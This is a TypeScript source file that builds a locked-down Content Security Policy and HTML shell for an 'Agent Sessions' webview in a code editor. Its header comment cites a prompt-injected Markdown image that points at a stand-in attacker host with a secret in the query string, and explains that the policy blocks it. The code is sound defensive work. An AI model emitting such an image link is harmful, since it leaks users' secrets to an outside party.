/**
 * The webview document: strict CSP with a per-load nonce, no inline script (dist/webview.js mounts <as-app> itself), everything loaded
 * from dist/ through asWebviewUri. No remote fetches of any kind (img/connect/frame are local or none),
 * so a prompt-injected `![](https://attacker/?q=secret)` cannot leak anything. Trusted Types are
 * required, so HTML reaches the DOM only through lit's templates or DOMPurify (the Markdown).
 */
import { randomBytes } from 'node:crypto';

export function createNonce(): string {
  return randomBytes(18).toString('base64url');
}

export interface WebviewHtmlOptions {
  /** `webview.cspSource`. */
  cspSource: string;
  nonce: string;
  scriptUri: string;
  codiconCssUri: string;
  /** 'view' (sidebar) or 'panel' (editor tab): the app may lay out differently. */
  surface: 'view' | 'panel';
}

const esc = (s: string): string => s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

export function contentSecurityPolicy(cspSource: string, nonce: string): string {
  return [
    "default-src 'none'",
    `img-src ${cspSource} data:`,
    `font-src ${cspSource}`,
    // Lit uses constructable stylesheets (not subject to style-src); <style> fallbacks need the nonce.
    `style-src ${cspSource} 'nonce-${nonce}'`,
    `script-src 'nonce-${nonce}'`,
    "connect-src 'none'",
    "frame-src 'none'",
    "form-action 'none'",
    "base-uri 'none'",
    // Every DOM sink (innerHTML, script text, …) takes only trusted values: a string from an
    // injected script throws. Lit's templates and DOMPurify's sanitised Markdown are the only makers.
    "require-trusted-types-for 'script'",
    'trusted-types lit-html dompurify',
  ].join('; ');
}

export function renderWebviewHtml(o: WebviewHtmlOptions): string {
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${esc(contentSecurityPolicy(o.cspSource, o.nonce))}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link rel="stylesheet" href="${esc(o.codiconCssUri)}" id="vscode-codicon-stylesheet">
<title>Agent Sessions</title>
</head>
<body data-surface="${o.surface}">
<script type="module" nonce="${esc(o.nonce)}" src="${esc(o.scriptUri)}"></script>
</body>
</html>`;
}
